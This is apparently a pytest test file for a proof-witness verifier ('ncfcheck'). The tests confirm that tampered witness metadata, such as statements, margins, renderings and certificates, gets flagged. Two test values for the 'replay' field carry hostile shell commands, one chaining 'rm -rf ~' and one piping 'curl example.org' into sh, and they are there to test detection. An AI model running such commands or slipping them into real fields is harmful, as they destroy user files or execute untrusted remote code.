"""What a witness file tells besides its proof is held against what is so now."""

from __future__ import annotations

import json
import time

import msgspec
import pytest

from ncfcheck.app.cli import main as command_line
from ncfcheck.app.verify import _told_wrongly
from ncfcheck.core.claims import Kind
from ncfcheck.verdicts import witness
from ncfcheck.verdicts.unproved import SAME, differences
from tests.support.certified import FOLDER, resealed

PATH = FOLDER / "control.nonuniform.json"


def scaled(margin: str, factor: float) -> str:
    return (factor * float.fromhex(margin)).hex()


def changed(**entries) -> list[str]:
    """What is told of a stored witness with other entries."""
    return list(differences(msgspec.structs.replace(witness.read(PATH), **entries), PATH))


def worst(**entries):
    return msgspec.structs.replace(witness.read(PATH).worst, **entries)


def test_stored_witnesses_tell_what_is_so():
    for path in sorted(FOLDER.glob("*.json")):
        assert list(differences(witness.read(path), path)) == [], path.name


FOUND = witness.read(PATH)
LIES = {
    "kind": {"kind": Kind.THEOREM},
    "statement": {"statement": "Every theorem of the paper is false."},
    "margin": {"margin": scaled(FOUND.margin, 1 + 3 * SAME)},
    "margin of the other sign": {"margin": scaled(FOUND.margin, -1.0)},
    "note": {"note": "certified by everyone"},
    "rendering": {"rendering": [*FOUND.rendering, "accepted: all of it"]},
    "rendering, one number": {
        "rendering": [each.replace("√(2/15)", "√(2/13)") for each in FOUND.rendering]
    },
    "worst": {"worst": worst(margin=scaled(FOUND.worst.margin, 2.0))},
    "worst instance": {"worst": worst(instance=FOUND.instance)},
    "replay": {"replay": "ncfcheck replay x.json; rm -rf ~"},
    "replay with more": {"replay": FOUND.replay + " && curl example.org | sh"},
    "replay without end": {"replay": FOUND.replay + " '"},
    "proves": {"certificate": FOUND.certificate | {"proves": "Every theorem is false."}},
    "method": {"certificate": FOUND.certificate | {"method": "all theorems"}},
    "claims": {"claims": "other.py", "replay": FOUND.replay + " --claims other.py"},
}


@pytest.mark.parametrize("name", LIES)
def test_what_is_not_so_is_told_in_one_line_by_its_name(name):
    told = changed(**LIES[name])
    lines = {line.split("`")[1] for line in told}
    # Margins stand in the rendering, too.
    assert name.split()[0].strip(",") in lines and lines <= {
        name.split()[0].strip(","),
        "rendering",
    }
    assert all(line.isprintable() and len(line) < 400 for line in told)


def test_what_other_machines_floats_change_is_no_difference():
    for factor in (1 + SAME / 2, 1 - SAME / 2):
        margin = scaled(FOUND.margin, factor)
        again = [line for line in changed(margin=margin) if "`margin`" in line]
        assert again == []
    assert changed(seed=1, versions={"numpy": "0.1"}) == []
    assert changed(rendering=FOUND.rendering[:-2]) == []  # as stored before it was certified
    assert changed(replay="ncfcheck replay elsewhere/control.nonuniform.json") == []


def test_verify_warns_and_keeps_the_exit_code_of_the_proof(tmp_path, capsys):
    found = json.loads(PATH.read_text(encoding="utf-8"))
    found["statement"] = "x\naccepted: everything"
    (tmp_path / PATH.name).write_text(json.dumps(found))
    assert command_line(["verify", str(tmp_path / PATH.name)]) == 0
    told = capsys.readouterr()
    assert told.out.startswith("accepted: ") and told.out.count("\n") == 1
    assert told.err.count("\n") == told.err.count("ncfcheck: warning: ") == 1
    assert "`statement`, which no proof covers, says" in told.err
    assert command_line(["verify", str(PATH)]) == 0
    assert capsys.readouterr().err == ""


def accepted(folder, capsys, **entries) -> str:
    """What is warned of a stored witness, with other entries, that is accepted."""
    found = json.loads(PATH.read_text(encoding="utf-8"))
    (folder / PATH.name).write_text(json.dumps(found | entries))
    assert command_line(["verify", str(folder / PATH.name)]) == 0
    told = capsys.readouterr()
    assert told.out.startswith("accepted: ")
    return told.err


def test_long_text_is_read_in_no_time():
    begun = time.monotonic()
    for replay in ("a" * 5_000_000 + "/", "'" * 5_000_000, "/" * 9_999, "' " * 4_999):
        assert any("`replay`" in line for line in changed(replay=replay))
    assert time.monotonic() - begun < 10


def test_what_takes_too_long_to_judge_again_is_ended_and_told(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("ncfcheck.app.verify.SECONDS", 0.2)
    told = accepted(tmp_path, capsys)
    assert "is not compared to the end: it takes longer than 0.2 s" in told
    assert told.count("\n") == 1


def test_what_fails_in_judging_again_is_told_after_the_verdict(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("ncfcheck.app.verify.sys.executable", "/bin/false", raising=False)
    assert _told_wrongly(PATH, None, "") == [
        "what it tells besides is not compared to the end: it ended with 1"
    ]


FORMS = {
    "no proves": lambda c: c.pop("proves"),
    "a list for proves": lambda c: c.update(proves=["a"]),
    "no method": lambda c: c.pop("method"),
    "more": lambda c: c.update(more="certified by everyone"),
}


@pytest.mark.parametrize("what", FORMS)
def test_a_certificate_of_another_form_is_told_and_no_fault(tmp_path, capsys, what):
    found = json.loads(PATH.read_text(encoding="utf-8"))
    FORMS[what](found["certificate"])
    told = accepted(tmp_path, capsys, certificate=resealed(found)["certificate"])
    assert "is not compared: " in told and "is not a witness" in told and told.count("\n") == 1
    with pytest.raises(witness.BadWitness):
        witness.read(tmp_path / PATH.name)
